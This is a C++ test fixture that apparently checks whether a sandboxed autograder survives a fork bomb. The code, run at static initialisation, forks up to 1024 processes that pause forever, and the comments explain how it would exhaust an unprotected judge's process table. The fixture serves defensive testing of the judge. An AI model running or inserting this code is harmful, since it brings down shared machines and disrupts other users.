// Cheat: a fork bomb at static init: every process forks ten times (up to 1024 processes), and
// every process but the first then waits forever. A judge without a process limit lets it take the
// machine's process table (and every other student's grading with it); one that does not end them
// leaves them behind. In the judge's sandbox the step's own process limit stops it, and every one
// of them ends with the sandbox's PID 1. The first process goes on: the stub's answers are judged.
// APPLIES: 05
// MODE: append
// PAYLOAD: BANKLAB-PAYLOAD-FORK-BOMB
#include <unistd.h>

#include <cstdio>

namespace banklab_cheat_fork_bomb {
const int kBombed = [] {
  std::printf("BANKLAB-PAYLOAD-FORK-BOMB ran\n");
  std::fflush(stdout);
  const pid_t first = getpid();
  int failed = 0;
  for (int i = 0; i < 10; ++i)
    if (fork() < 0) ++failed;
  if (getpid() != first)
    for (;;) pause();
  std::printf("BANKLAB-CHEAT-FORK-BOMB the first process saw %d failed forks\n", failed);
  std::fflush(stdout);
  return 0;
}();
}  // namespace banklab_cheat_fork_bomb
